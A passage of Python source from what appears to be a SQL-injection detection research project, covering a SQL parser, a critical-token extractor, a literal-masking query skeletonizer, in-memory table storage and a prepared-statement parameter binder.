            group_by = tuple(keys)
        having = self._expr() if self._accept_keyword("having") else None
        order_by, limit, offset = self._order_limit()
        return ast.Select(
            items=tuple(items),
            table=table,
            joins=tuple(joins),
            where=where,
            group_by=group_by,
            having=having,
            order_by=order_by,
            limit=limit,
            offset=offset,
            distinct=distinct,
        )

    def _order_limit(
        self,
    ) -> tuple[tuple[ast.OrderItem, ...], ast.Expr | None, ast.Expr | None]:
        order_by: list[ast.OrderItem] = []
        if self._accept_keyword("order"):
            self._expect_keyword("by")
            while True:
                expr = self._expr()
                descending = False
                if self._accept_keyword("desc"):
                    descending = True
                else:
                    self._accept_keyword("asc")
                order_by.append(ast.OrderItem(expr, descending))
                if not self._accept_punct(","):
                    break
        limit: ast.Expr | None = None
        offset: ast.Expr | None = None
        if self._accept_keyword("limit"):
            first = self._expr()
            if self._accept_punct(","):
                offset = first
                limit = self._expr()
            elif self._accept_keyword("offset"):
                limit = first
                offset = self._expr()
            else:
                limit = first
        return tuple(order_by), limit, offset

    def _select_item(self) -> ast.SelectItem:
        tok = self._peek()
        if tok is not None and tok.type is TokenType.OPERATOR and tok.text == "*":
            self._next()
            return ast.SelectItem(ast.Star())
        expr = self._expr()
        alias: str | None = None
        if self._accept_keyword("as"):
            alias = self._expect_identifier()
        else:
            nxt = self._peek()
            if nxt is not None and nxt.type is TokenType.IDENTIFIER:
                alias = self._expect_identifier()
        return ast.SelectItem(expr, alias)

    def _table_ref(self) -> ast.TableRef:
        if self._accept_punct("("):
            sub = self._select_or_union()
            self._expect_punct(")")
            alias = None
            if self._accept_keyword("as"):
                alias = self._expect_identifier()
            else:
                nxt = self._peek()
                if nxt is not None and nxt.type is TokenType.IDENTIFIER:
                    alias = self._expect_identifier()
            return ast.TableRef(subquery=sub, alias=alias)
        name = self._expect_identifier()
        # Dotted (schema-qualified) table names: information_schema.tables.
        dot = self._peek()
        if dot is not None and dot.type is TokenType.OPERATOR and dot.text == ".":
            self._next()
            name = f"{name}.{self._expect_identifier()}"
        alias = None
        if self._accept_keyword("as"):
            alias = self._expect_identifier()
        else:
            nxt = self._peek()
            if nxt is not None and nxt.type is TokenType.IDENTIFIER:
                alias = self._expect_identifier()
        return ast.TableRef(name=name, alias=alias)

    def _maybe_join(self) -> ast.Join | None:
        kind: str | None = None
        if self._accept_keyword("inner"):
            kind = "inner"
            self._expect_keyword("join")
        elif self._accept_keyword("cross"):
            kind = "cross"
            self._expect_keyword("join")
        elif self._accept_keyword("left"):
            self._accept_keyword("outer")
            kind = "left"
            self._expect_keyword("join")
        elif self._accept_keyword("right"):
            self._accept_keyword("outer")
            kind = "right"
            self._expect_keyword("join")
        elif self._accept_keyword("join"):
            kind = "inner"
        elif self._accept_punct(","):
            kind = "cross"
        if kind is None:
            return None
        table = self._table_ref()
        condition = None
        if self._accept_keyword("on"):
            condition = self._expr()
        elif self._accept_keyword("using"):
            self._expect_punct("(")
            col = self._expect_identifier()
            self._expect_punct(")")
            condition = ast.Binary("=", ast.ColumnRef(col), ast.ColumnRef(col))
        return ast.Join(kind, table, condition)

    def _insert(self) -> ast.Insert:
        replace = bool(self._accept_keyword("replace"))
        if not replace:
            self._expect_keyword("insert")
        self._accept_keyword("into")
        table = self._expect_identifier()
        columns: list[str] = []
        if self._accept_punct("("):
            columns.append(self._expect_identifier())
            while self._accept_punct(","):
                columns.append(self._expect_identifier())
            self._expect_punct(")")
        if self._accept_keyword("values"):
            rows: list[tuple[ast.Expr, ...]] = []
            while True:
                self._expect_punct("(")
                row = [self._expr()]
                while self._accept_punct(","):
                    row.append(self._expr())
                self._expect_punct(")")
                rows.append(tuple(row))
                if not self._accept_punct(","):
                    break
            return ast.Insert(
                table=table, columns=tuple(columns), rows=tuple(rows), replace=replace
            )
        if self._at_keyword("select"):
            select = self._select_or_union()
            return ast.Insert(
                table=table, columns=tuple(columns), select=select, replace=replace
            )
        if self._accept_keyword("set"):
            assignments = self._assignments()
            cols = tuple(c for c, _ in assignments)
            row = tuple(e for _, e in assignments)
            return ast.Insert(table=table, columns=cols, rows=(row,), replace=replace)
        tok = self._peek()
        raise SqlParseError("expected VALUES, SELECT or SET", tok.start if tok else 0)

    def _assignments(self) -> list[tuple[str, ast.Expr]]:
        assignments = [self._assignment()]
        while self._accept_punct(","):
            assignments.append(self._assignment())
        return assignments

    def _assignment(self) -> tuple[str, ast.Expr]:
        col = self._expect_identifier()
        if self._accept_operator("=") is None:
            tok = self._peek()
            raise SqlParseError("expected '=' in assignment", tok.start if tok else 0)
        return col, self._expr()

    def _update(self) -> ast.Update:
        self._expect_keyword("update")
        table = self._expect_identifier()
        self._expect_keyword("set")
        assignments = self._assignments()
        where = self._expr() if self._accept_keyword("where") else None
        limit = None
        if self._accept_keyword("limit"):
            limit = self._expr()
        return ast.Update(
            table=table, assignments=tuple(assignments), where=where, limit=limit
        )

    def _delete(self) -> ast.Delete:
        self._expect_keyword("delete")
        self._expect_keyword("from")
        table = self._expect_identifier()
        where = self._expr() if self._accept_keyword("where") else None
        limit = None
        if self._accept_keyword("limit"):
            limit = self._expr()
        return ast.Delete(table=table, where=where, limit=limit)

    # ------------------------------------------------------------------
    # Expressions
    # ------------------------------------------------------------------

    def _expr(self) -> ast.Expr:
        return self._binary(0)

    def _binary(self, level: int) -> ast.Expr:
        if level >= len(_PRECEDENCE):
            return self._unary_postfix()
        # MySQL places NOT between AND and the comparison operators:
        # ``NOT a = 1`` negates the whole comparison.
        if level == 2 and self._accept_keyword("not"):
            return ast.Unary("not", self._binary(2))
        ops = _PRECEDENCE[level]
        left = self._binary(level + 1)
        while True:
            tok = self._peek()
            if tok is None:
                return left
            opname: str | None = None
            if tok.type is TokenType.KEYWORD and tok.value in ops:
                opname = str(tok.value)
            elif tok.type is TokenType.OPERATOR:
                text = tok.text
                if text == "||" and "or" in ops:
                    opname = "or"
                elif text == "&&" and "and" in ops:
                    opname = "and"
                elif text in ops:
                    opname = text
            if opname is None:
                return left
            self._next()
            right = self._binary(level + 1)
            left = ast.Binary(opname, left, right)

    def _unary_postfix(self) -> ast.Expr:
        tok = self._accept_operator("-", "+", "~", "!")
        if tok is not None:
            return ast.Unary(tok.text, self._unary_postfix())
        expr = self._primary()
        return self._postfix(expr)

    def _postfix(self, expr: ast.Expr) -> ast.Expr:
        while True:
            if self._accept_keyword("is"):
                negated = bool(self._accept_keyword("not"))
                if self._accept_keyword("null"):
                    expr = ast.IsNull(expr, negated)
                elif self._accept_keyword("true"):
                    cmp_ = ast.Binary("=", expr, ast.Literal(True))
                    expr = ast.Unary("not", cmp_) if negated else cmp_
                elif self._accept_keyword("false"):
                    cmp_ = ast.Binary("=", expr, ast.Literal(False))
                    expr = ast.Unary("not", cmp_) if negated else cmp_
                else:
                    tok = self._peek()
                    raise SqlParseError(
                        "expected NULL/TRUE/FALSE after IS", tok.start if tok else 0
                    )
                continue
            negated = False
            mark = self.pos
            if self._accept_keyword("not"):
                negated = True
            if self._accept_keyword("like") or self._accept_keyword("rlike", "regexp"):
                pattern = self._unary_postfix()
                expr = ast.Like(expr, pattern, negated)
                continue
            if self._accept_keyword("in"):
                self._expect_punct("(")
                if self._at_keyword("select"):
                    sub = self._select_or_union()
                    self._expect_punct(")")
                    expr = ast.InList(expr, (ast.SubqueryExpr(sub),), negated)
                else:
                    items = [self._expr()]
                    while self._accept_punct(","):
                        items.append(self._expr())
                    self._expect_punct(")")
                    expr = ast.InList(expr, tuple(items), negated)
                continue
            if self._accept_keyword("between"):
                low = self._binary(3)  # avoid consuming the AND separator
                self._expect_keyword("and")
                high = self._binary(3)
                expr = ast.Between(expr, low, high, negated)
                continue
            if negated:
                self.pos = mark  # bare NOT belongs to a boolean context
            return expr

    def _primary(self) -> ast.Expr:
        tok = self._peek()
        if tok is None:
            raise SqlParseError("unexpected end of expression", len(self.query))
        if tok.type is TokenType.NUMBER:
            self._next()
            return ast.Literal(tok.value)
        if tok.type is TokenType.STRING:
            self._next()
            return ast.Literal(tok.value)
        if tok.type is TokenType.PLACEHOLDER:
            self._next()
            return ast.Placeholder(tok.text)
        if tok.type is TokenType.KEYWORD:
            nxt = self._peek(1)
            if (
                nxt is not None
                and nxt.type is TokenType.PUNCTUATION
                and nxt.text == "("
                and is_sql_function(tok.text)
            ):
                # Keywords doubling as functions: REPLACE(), LEFT(), RIGHT().
                return self._identifier_or_call()
            if tok.value == "null":
                self._next()
                return ast.Literal(None)
            if tok.value == "true":
                self._next()
                return ast.Literal(True)
            if tok.value == "false":
                self._next()
                return ast.Literal(False)
            if tok.value == "case":
                return self._case()
            if tok.value == "exists":
                self._next()
                self._expect_punct("(")
                sub = self._select_or_union()
                self._expect_punct(")")
                return ast.ExistsExpr(sub)
            if tok.value in ("cast", "convert"):
                return self._cast()
            if tok.value == "binary":
                self._next()
                return ast.Unary("binary", self._unary_postfix())
            if tok.value == "distinct":
                # COUNT(DISTINCT x) is handled in _call(); bare DISTINCT here
                # is a syntax error.
                raise SqlParseError("unexpected DISTINCT", tok.start)
            if tok.value == "interval":
                self._next()
                amount = self._expr()
                unit = self._expect_identifier()
                return ast.FunctionCall("interval", (amount, ast.Literal(unit)))
        if tok.type is TokenType.PUNCTUATION and tok.text == "(":
            self._next()
            if self._at_keyword("select"):
                sub = self._select_or_union()
                self._expect_punct(")")
                return ast.SubqueryExpr(sub)
            expr = self._expr()
            self._expect_punct(")")
            return expr
        if tok.type is TokenType.OPERATOR and tok.text == "*":
            self._next()
            return ast.Star()
        if tok.type is TokenType.OPERATOR and tok.text == "@":
            # Session variables: @@version, @var.  Model as a function call so
            # they execute and count as critical in token analyses.
            self._next()
            self._accept_operator("@")
            name = self._expect_identifier()
            return ast.FunctionCall("sysvar", (ast.Literal(name),))
        if tok.type is TokenType.IDENTIFIER:
            if tok.text.lower() in ("cast", "convert"):
                nxt = self._peek(1)
                if (
                    nxt is not None
                    and nxt.type is TokenType.PUNCTUATION
                    and nxt.text == "("
                ):
                    return self._cast()
            return self._identifier_or_call()
        raise SqlParseError(f"unexpected token {tok.text!r}", tok.start)

    def _cast(self) -> ast.Expr:
        fn = self._next()  # cast / convert
        self._expect_punct("(")
        value = self._expr()
        if self._accept_keyword("as") or self._accept_punct(","):
            target = self._expect_identifier()
            if self._accept_punct("("):
                self._expr()
                self._expect_punct(")")
        else:
            target = "char"
        self._expect_punct(")")
        return ast.FunctionCall(str(fn.value), (value, ast.Literal(target)))

    def _case(self) -> ast.Expr:
        self._expect_keyword("case")
        operand = None
        if not self._at_keyword("when"):
            operand = self._expr()
        whens: list[tuple[ast.Expr, ast.Expr]] = []
        while self._accept_keyword("when"):
            cond = self._expr()
            self._expect_keyword("then")
            result = self._expr()
            whens.append((cond, result))
        default = self._expr() if self._accept_keyword("else") else None
        self._expect_keyword("end")
        if not whens:
            tok = self._peek()
            raise SqlParseError("CASE requires at least one WHEN", tok.start if tok else 0)
        return ast.CaseExpr(operand, tuple(whens), default)

    def _identifier_or_call(self) -> ast.Expr:
        tok = self._next()
        name = str(tok.value) if tok.text.startswith("`") else tok.text
        nxt = self._peek()
        if nxt is not None and nxt.type is TokenType.PUNCTUATION and nxt.text == "(":
            self._next()
            distinct = bool(self._accept_keyword("distinct"))
            args: list[ast.Expr] = []
            closing = self._peek()
            if not (
                closing is not None
                and closing.type is TokenType.PUNCTUATION
                and closing.text == ")"
            ):
                args.append(self._expr())
                while self._accept_punct(","):
                    args.append(self._expr())
            self._expect_punct(")")
            return ast.FunctionCall(name.lower(), tuple(args), distinct)
        if nxt is not None and nxt.type is TokenType.OPERATOR and nxt.text == ".":
            self._next()
            dotted = self._peek()
            if (
                dotted is not None
                and dotted.type is TokenType.OPERATOR
                and dotted.text == "*"
            ):
                self._next()
                return ast.Star(table=name)
            col = self._expect_identifier()
            return ast.ColumnRef(col, table=name)
        return ast.ColumnRef(name)


def parse_statement(query: str) -> ast.Statement:
    """Parse one SQL statement, raising :class:`SqlParseError` on failure."""
    return Parser(query).parse()


def critical_tokens(
    query: str,
    stream: list[Token] | None = None,
    strict: bool = False,
) -> list[Token]:
    """Extract the security-critical tokens of ``query``.

    Returns keywords, operators, punctuation, comments and built-in function
    names in call position, in source order.  This is the token set both
    inference components check for taint coverage.  Works on unparseable
    queries -- it is purely lexical.  ``stream`` lets callers reuse an
    existing :func:`tokenize_significant` pass.  ``strict`` applies the
    Ray/Ligatti-style policy in which identifiers are critical too (see
    :meth:`Token.is_critical`).
    """
    if stream is None:
        stream = tokenize_significant(query)
    critical: list[Token] = []
    for idx, tok in enumerate(stream):
        nxt = stream[idx + 1] if idx + 1 < len(stream) else None
        next_is_call = (
            nxt is not None
            and nxt.type is TokenType.PUNCTUATION
            and nxt.text == "("
        )
        if tok.is_critical(next_is_call=next_is_call, strict=strict):
            critical.append(tok)
    return critical
