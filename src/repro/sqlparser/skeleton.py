"""Literal-masked query skeletons: the key of the query-shape fast path.

Production SQL traffic is a small set of repeated query *shapes* differing
only in literal values -- the observation behind the paper's structure cache
(Section VI-A) and behind SQLBlock-style query profiling.  The skeletonizer
canonicalizes a query into

- a **skeleton key**: the query text with every string/number literal span
  replaced by a typed slot marker (``\\x00s`` / ``\\x00n``).  Everything
  else -- keywords, identifiers, operators, *whitespace and comments* -- is
  preserved verbatim, so two queries share a key exactly when they are
  character-identical outside their literal slots;
- the **literal slot spans**: the ``[start, end)`` offsets and kind of each
  masked literal in the original query.

This is deliberately *stricter* than the PTI structure cache's
whitespace-collapsing :func:`~repro.sqlparser.structure.token_signature`:
PTI fragment matching is exact on raw query text, so a reusable analysis
plan needs the inter-literal text to be byte-identical, not merely
token-identical.

Span agreement with the lexer is a hard invariant: the slot spans must be
exactly the spans :func:`~repro.sqlparser.lexer.tokenize` assigns to its
``STRING``/``NUMBER`` tokens (property-tested).  The scanner therefore
consumes quoted identifiers, comments and identifier words as opaque
regions -- so quotes inside comments, digits inside identifiers and ``--``
markers inside strings can never be misread -- and reuses the lexer's
numeric-span rules via the shared regex below.

Unlike :func:`tokenize`, skeletonization allocates no per-token objects:
one compiled-regex pass plus slicing.  That cost asymmetry is what makes
the warm shape-cache path cheap (see ``repro/core/shapecache.py``).
"""

from __future__ import annotations

import re
from typing import NamedTuple

__all__ = [
    "SLOT_STRING",
    "SLOT_NUMBER",
    "STRING_MARK",
    "NUMBER_MARK",
    "LiteralSlot",
    "Skeleton",
    "skeletonize",
]

#: Slot kinds (typed slots: a string literal never shares a shape with a
#: number literal in the same position).
SLOT_STRING = "s"
SLOT_NUMBER = "n"

#: Markers substituted into the key.  ``\x00`` cannot appear in a token the
#: lexer would classify differently, so marked keys never collide with the
#: text of a different query.
STRING_MARK = "\x00s"
NUMBER_MARK = "\x00n"

# One alternation per opaque/maskable region, mirroring the lexer exactly:
#
# - quoted strings: backslash escapes (incl. a lone trailing backslash) and
#   doubled-quote escapes; unterminated strings run to end of input
#   (lexer's ``_lex_quoted``);
# - backtick identifiers: doubled-backtick escape only, no backslash;
# - comments: ``/* ... */`` (unterminated swallows the rest), ``-- ...``
#   and ``# ...`` to end of line;
# - numbers: hex, decimal/float/scientific with the exact acceptance rules
#   of ``_scan_number`` (exponent only after a digit, one dot, bare ``0x``
#   falls back to ``0``).  Digit-initial alternatives carry a negative
#   lookbehind for ASCII identifier characters: a digit run preceded by an
#   ASCII word char is part of that identifier (``abc123`` never yields a
#   number slot), which is exactly what an explicit identifier alternative
#   used to enforce by consuming the whole word.  The lookbehind keeps the
#   semantics while letting the scanner skip pure-ASCII identifiers
#   entirely -- the per-match Python loop body then runs only for actual
#   literals, comments and the rare non-ASCII word, which is what makes
#   warm-path skeletonization cheap.  Dot-initial ``.5`` has no guard
#   (``.`` is not an identifier character, so it can never sit inside a
#   word), matching the lexer's behaviour on ``a.5``;
# - non-ASCII words: a one-character lookbehind cannot classify a digit
#   preceded by a char above 0x7f -- the lexer treats such a char as
#   identifier *continuation* (``a\xa05`` is one identifier) but as
#   *whitespace* when it would start a token and ``isspace()`` holds
#   (``\x850`` lexes as whitespace + NUMBER).  Words containing any char
#   above 0x7f are therefore consumed as opaque regions, with the lexer's
#   exact start rule (``isspace`` wins over ident-start) enforced on the
#   word's first character.  Pure-ASCII words never match this alternative,
#   so the common case stays loop-free;
# - skip runs: a last-resort alternative gulping runs of characters that
#   can never start or influence a maskable region -- ASCII letters,
#   ``_``/``$``, ASCII whitespace and operator punctuation.  Deliberately
#   excluded: digits and ``.`` (a greedy gulp starting earlier would
#   swallow a number that must become a slot), quote/backtick/comment
#   starters (single quote, double quote, backtick, ``/``, ``-``, ``#``) and everything
#   above 0x7f (ident-vs-whitespace ambiguity, handled above).  The gulp
#   changes no semantics -- its characters were gap text anyway -- it only
#   moves the scan from per-character alternation attempts to one C-level
#   run per stretch of boring text, tried *after* the non-ASCII word
#   alternative so it can never split ``a\xa05``-style identifiers.
#
# Anything not matched (lone ``.``, stray digits after identifiers,
# backslashes, ...) is copied verbatim as gap text between matches.

#: Characters above 0x7f the lexer's top-level ``isspace()`` check claims
#: before identifier scanning ever sees them (U+3000 is the last Unicode
#: space, but scan the whole BMP rather than trust that fact).
_HIGH_SPACES = "".join(chr(c) for c in range(0x80, 0x10000) if chr(c).isspace())

_SCANNER = re.compile(
    rf"""
      (?P<squote>'(?:''|\\[\s\S]?|[^'\\])*(?:'|\Z))
    | (?P<dquote>"(?:""|\\[\s\S]?|[^"\\])*(?:"|\Z))
    | (?P<btick>`(?:``|[^`])*(?:`|\Z))
    | (?P<comment>/\*[\s\S]*?(?:\*/|\Z)|--[^\n]*|\#[^\n]*)
    | (?P<number>(?<![0-9A-Za-z_$])
        (?:0[xX][0-9a-fA-F]+
          |[0-9]+\.[0-9]+(?:[eE][+-]?[0-9]+)?
          |[0-9]+[eE][+-]?[0-9]+
          |[0-9]+\.?)
        |\.[0-9]+(?:[eE][+-]?[0-9]+)?)
    | (?P<ident>(?:[A-Za-z_$][0-9A-Za-z_$]*[^\x00-\x7f]
                  |(?![{_HIGH_SPACES}])[^\x00-\x7f])
                (?:[0-9A-Za-z_$]|[^\x00-\x7f])*)
    | (?P<skip>[A-Za-z_$\x20\t\n\r\x0b\x0c,*=<>()+;:?%&|!^~@\[\]{{}}]+)
    """,
    re.VERBOSE,
)


class LiteralSlot(NamedTuple):
    """One masked literal: its exact span in the query and its kind.

    A ``NamedTuple`` rather than a dataclass: two to three of these are
    allocated per skeletonized query on the engine's hot path, and tuple
    construction is several times cheaper than a frozen dataclass
    ``__init__`` while staying immutable and field-compatible.
    """

    start: int
    end: int
    kind: str  # SLOT_STRING | SLOT_NUMBER

    @property
    def length(self) -> int:
        return self.end - self.start


class Skeleton(NamedTuple):
    """A query's literal-masked key plus the spans that were masked.

    Two queries with equal ``key`` are identical outside their slots: same
    slot count, kinds and order, and byte-identical inter-slot segments.
    Consequently their token streams correspond one-to-one with all
    non-literal token spans shifted rigidly by the cumulative slot-length
    difference -- the invariant the shape cache's analysis plans rely on.
    """

    key: str
    slots: tuple[LiteralSlot, ...]


# Group numbers of the scanner alternation, in source order; matching on
# ``lastindex`` (an int) avoids the ``lastgroup`` name lookup in the hot
# loop.  All inner groups are non-capturing, so ``lastindex`` is exactly
# the matched alternative.
_G_SQUOTE, _G_DQUOTE, _G_BTICK, _G_COMMENT, _G_NUMBER, _G_IDENT, _G_SKIP = range(
    1, 8
)

# Bytes twin of ``_SCANNER`` for the ASCII fast path.  Two deliberate
# differences, both sound only because the subject is pure ASCII:
#
# - the non-ASCII word alternative is dropped entirely -- it requires at
#   least one byte above 0x7f, which an ASCII subject cannot contain, so
#   removing it changes nothing while saving the engine one alternation
#   attempt per scan position;
# - byte offsets equal character offsets, so the spans this scanner
#   reports can be stored directly in :class:`LiteralSlot` (which is
#   defined in character offsets -- the lexer-agreement invariant).
#
# Every other alternative is byte-for-byte the same pattern, so the two
# scanners accept identical ASCII languages (property-tested).
_SCANNER_ASCII = re.compile(
    rb"""
      (?P<squote>'(?:''|\\[\s\S]?|[^'\\])*(?:'|\Z))
    | (?P<dquote>"(?:""|\\[\s\S]?|[^"\\])*(?:"|\Z))
    | (?P<btick>`(?:``|[^`])*(?:`|\Z))
    | (?P<comment>/\*[\s\S]*?(?:\*/|\Z)|--[^\n]*|\#[^\n]*)
    | (?P<number>(?<![0-9A-Za-z_$])
        (?:0[xX][0-9a-fA-F]+
          |[0-9]+\.[0-9]+(?:[eE][+-]?[0-9]+)?
          |[0-9]+[eE][+-]?[0-9]+
          |[0-9]+\.?)
        |\.[0-9]+(?:[eE][+-]?[0-9]+)?)
    | (?P<skip>[A-Za-z_$\x20\t\n\r\x0b\x0c,*=<>()+;:?%&|!^~@\[\]{}]+)
    """,
    re.VERBOSE,
)

# ASCII scanner group numbers (no ident alternative, so skip is group 6).
_GA_NUMBER = 5

_STRING_MARK_B = b"\x00s"
_NUMBER_MARK_B = b"\x00n"


def _skeletonize_ascii(query: str, data: bytes) -> Skeleton:
    """Skeletonize a pure-ASCII query without intermediate string slices.

    Two-phase splice instead of fragment accumulation: the scan loop only
    *collects* slot spans (no per-gap slicing at all), then the key is
    built by copying the query bytes once into a :class:`bytearray` and
    replacing each slot span with its two-byte marker **in reverse order**
    -- right-to-left splicing means earlier spans never shift, so no
    offset bookkeeping, and each replacement is a single C-level
    ``memmove``.  Gap text is therefore never materialised as an
    intermediate ``str``/``bytes`` object the way the string path's
    slice-and-join is.

    ``latin-1`` is the decoder because it is the identity on every byte
    value: the payload bytes are ASCII and the only non-ASCII bytes are
    our ``\\x00`` markers, so the key is character-identical to what the
    string path produces (property-tested).

    Queries with no literals at all -- the common warm-cache case for
    fully-parameterised shapes -- exit early and reuse the query string
    itself as the key: zero copies beyond the ``encode`` dispatch probe.
    """
    slots: list[LiteralSlot] = []
    add_slot = slots.append
    for match in _SCANNER_ASCII.finditer(data):
        index = match.lastindex
        if index == _GA_NUMBER:
            kind = SLOT_NUMBER
        elif index <= _G_DQUOTE:
            kind = SLOT_STRING
        else:
            # btick / comment / skip regions: consumed, kept verbatim.
            continue
        start, end = match.span()
        add_slot(LiteralSlot(start, end, kind))
    if not slots:
        return Skeleton(key=query, slots=())
    out = bytearray(data)
    for start, end, kind in reversed(slots):
        out[start:end] = _NUMBER_MARK_B if kind == SLOT_NUMBER else _STRING_MARK_B
    return Skeleton(key=out.decode("latin-1"), slots=tuple(slots))


def _skeletonize_unicode(query: str) -> Skeleton:
    """String-path skeletonization for queries containing non-ASCII text."""
    parts: list[str] = []
    slots: list[LiteralSlot] = []
    copied = 0
    append = parts.append
    add_slot = slots.append
    for match in _SCANNER.finditer(query):
        index = match.lastindex
        if index == _G_NUMBER:
            mark, kind = NUMBER_MARK, SLOT_NUMBER
        elif index <= _G_DQUOTE:
            mark, kind = STRING_MARK, SLOT_STRING
        else:
            # btick / comment / ident regions are consumed (so their
            # contents cannot be misread as literals) but copied verbatim:
            # they are part of the shape.
            continue
        start, end = match.span()
        if copied != start:
            append(query[copied:start])
        append(mark)
        add_slot(LiteralSlot(start, end, kind))
        copied = end
    append(query[copied:])
    return Skeleton(key="".join(parts), slots=tuple(slots))


def skeletonize(query: str) -> Skeleton:
    """Compute the literal-masked skeleton of ``query`` in one regex pass.

    Pure-ASCII queries (the overwhelming share of real SQL traffic) take
    an allocation-free bytes path: one ``encode`` to get a byte view,
    a bytes-compiled scanner, and a single pre-sized output buffer --
    byte offsets equal character offsets for ASCII, so the slot spans are
    shared with :func:`~repro.sqlparser.lexer.tokenize` unchanged.
    Queries with any non-ASCII character fall back to the string scanner,
    which handles the ident-vs-whitespace subtleties above 0x7f.
    """
    try:
        data = query.encode("ascii")
    except UnicodeEncodeError:
        return _skeletonize_unicode(query)
    return _skeletonize_ascii(query, data)
