"""Row storage for the in-memory engine."""

from __future__ import annotations

from .errors import ColumnNotFoundError, DuplicateKeyError
from .schema import TableSchema

__all__ = ["Table"]


class Table:
    """A heap of rows governed by a :class:`TableSchema`.

    Rows are stored as plain dicts keyed by the schema's canonical (original
    case) column names.  Uniqueness for primary-key and unique columns is
    enforced with side indexes.
    """

    def __init__(self, schema: TableSchema) -> None:
        self.schema = schema
        self.rows: list[dict[str, object]] = []
        self._next_auto = 1
        self._unique_cols = [
            c.name for c in schema.columns if c.primary_key or c.unique
        ]
        self._unique_index: dict[str, set[object]] = {c: set() for c in self._unique_cols}

    def __len__(self) -> int:
        return len(self.rows)

    def insert(self, values: dict[str, object]) -> int:
        """Insert one row; returns the row's auto-increment id (or 0).

        ``values`` is keyed by column name (any case).  Missing columns get
        their defaults; an auto-increment column missing or NULL gets the
        next counter value.
        """
        row: dict[str, object] = {}
        provided = {k.lower(): v for k, v in values.items()}
        for key in provided:
            if not self.schema.has_column(key):
                raise ColumnNotFoundError(
                    f"Unknown column '{key}' in table '{self.schema.name}'"
                )
        last_id = 0
        for col in self.schema.columns:
            if col.name.lower() in provided:
                value = col.coerce(provided[col.name.lower()])
            elif col.auto_increment:
                value = None
            else:
                value = col.default
            if col.auto_increment and value is None:
                value = self._next_auto
            if col.auto_increment:
                value = int(value)
                self._next_auto = max(self._next_auto, value + 1)
                last_id = value
            row[col.name] = value
        for col_name in self._unique_cols:
            value = row[col_name]
            if value is not None and value in self._unique_index[col_name]:
                raise DuplicateKeyError(
                    f"Duplicate entry '{value}' for key '{col_name}'"
                )
        for col_name in self._unique_cols:
            value = row[col_name]
            if value is not None:
                self._unique_index[col_name].add(value)
        self.rows.append(row)
        return last_id

    def delete_conflicting(self, values: dict[str, object]) -> int:
        """Remove rows that collide with ``values`` on any unique column.

        Implements REPLACE INTO semantics; returns the number of displaced
        rows.  Coercion mirrors :meth:`insert` so the comparison sees the
        stored representation.
        """
        provided = {k.lower(): v for k, v in values.items()}
        doomed: list[dict[str, object]] = []
        for col_name in self._unique_cols:
            col = self.schema.column(col_name)
            if col_name.lower() not in provided:
                continue
            new_value = col.coerce(provided[col_name.lower()])
            if new_value is None:
                continue
            doomed.extend(
                row for row in self.rows if row[col_name] == new_value
            )
        return self.delete_rows(doomed) if doomed else 0

    def delete_rows(self, rows: list[dict[str, object]]) -> int:
        """Remove the given row objects (identity comparison); returns count."""
        doomed = {id(r) for r in rows}
        kept: list[dict[str, object]] = []
        removed = 0
        for row in self.rows:
            if id(row) in doomed:
                removed += 1
                for col_name in self._unique_cols:
                    self._unique_index[col_name].discard(row[col_name])
            else:
                kept.append(row)
        self.rows = kept
        return removed

    def update_row(self, row: dict[str, object], changes: dict[str, object]) -> None:
        """Apply column changes to a row in place, maintaining unique indexes."""
        for name, value in changes.items():
            col = self.schema.column(name)
            new_value = col.coerce(value)
            if col.name in self._unique_index:
                old_value = row[col.name]
                if new_value != old_value:
                    if new_value is not None and new_value in self._unique_index[col.name]:
                        raise DuplicateKeyError(
                            f"Duplicate entry '{new_value}' for key '{col.name}'"
                        )
                    self._unique_index[col.name].discard(old_value)
                    if new_value is not None:
                        self._unique_index[col.name].add(new_value)
            row[col.name] = new_value
