"""Client-side prepared statements.

Paper Section V-B discusses prepared statements as the standard SQLi
defense -- and shows (Drupal, CVE-2014-3704) that they are "not a panacea"
when placeholder *names* are attacker-controlled.  This module provides the
well-behaved half of that story: a prepared-statement API in which the
template is parsed once with ``?`` / ``:name`` placeholders and parameters
are bound as pure data, properly escaped, never re-parsed as SQL.

Binding is performed client-side (the way ``mysqli``'s emulation and PDO's
default mode work): placeholder tokens are located lexically and replaced
with quoted literals, so the bound query is an ordinary string the engine
-- and Joza -- can process.  Because the *template* is what the application
author wrote, Joza vets the template once; bound parameters cannot add
critical tokens (they land inside string/number literals by construction).
"""

from __future__ import annotations

from typing import Mapping, Sequence

from ..sqlparser.lexer import tokenize_significant
from ..sqlparser.parser import SqlParseError, parse_statement
from ..sqlparser.tokens import Token, TokenType
from .errors import DatabaseError, SqlSyntaxError

__all__ = ["PreparedStatement", "quote_literal", "bind_parameters"]


def quote_literal(value) -> str:
    """Render a parameter as a safe SQL literal.

    Strings are single-quoted with backslash and quote escaping; numbers
    pass through; ``None`` becomes NULL; booleans become 1/0.
    """
    if value is None:
        return "NULL"
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, (int, float)):
        return repr(value)
    text = str(value)
    escaped = (
        text.replace("\\", "\\\\")
        .replace("'", "\\'")
        .replace("\0", "\\0")
    )
    return f"'{escaped}'"


def _placeholder_tokens(sql: str) -> list[Token]:
    return [
        t for t in tokenize_significant(sql) if t.type is TokenType.PLACEHOLDER
    ]


def bind_parameters(sql: str, params) -> str:
    """Substitute parameters into a placeholder template.

    ``params`` is a sequence for positional ``?`` placeholders or a mapping
    for ``:name`` placeholders (names without the colon).  Raises
    :class:`DatabaseError` on arity/name mismatches or mixed styles.
    """
    placeholders = _placeholder_tokens(sql)
    if not placeholders:
        if params:
            raise DatabaseError("statement has no placeholders to bind")
        return sql
    positional = [t for t in placeholders if t.text == "?"]
    named = [t for t in placeholders if t.text != "?"]
    if positional and named:
        raise DatabaseError("cannot mix positional and named placeholders")
    replacements: list[tuple[Token, str]] = []
    if positional:
        if not isinstance(params, Sequence) or isinstance(params, (str, bytes)):
            raise DatabaseError("positional placeholders need a sequence of parameters")
        if len(params) != len(positional):
            raise DatabaseError(
                f"statement needs {len(positional)} parameters, got {len(params)}"
            )
        replacements = list(zip(positional, (quote_literal(p) for p in params)))
    else:
        if not isinstance(params, Mapping):
            raise DatabaseError("named placeholders need a mapping of parameters")
        for token in named:
            name = token.text[1:]
            if name not in params:
                raise DatabaseError(f"missing parameter {name!r}")
            replacements.append((token, quote_literal(params[name])))
        unused = set(params) - {t.text[1:] for t in named}
        if unused:
            raise DatabaseError(f"unknown parameters: {sorted(unused)}")
    bound = sql
    for token, literal in sorted(replacements, key=lambda r: -r[0].start):
        bound = bound[: token.start] + literal + bound[token.end :]
    return bound


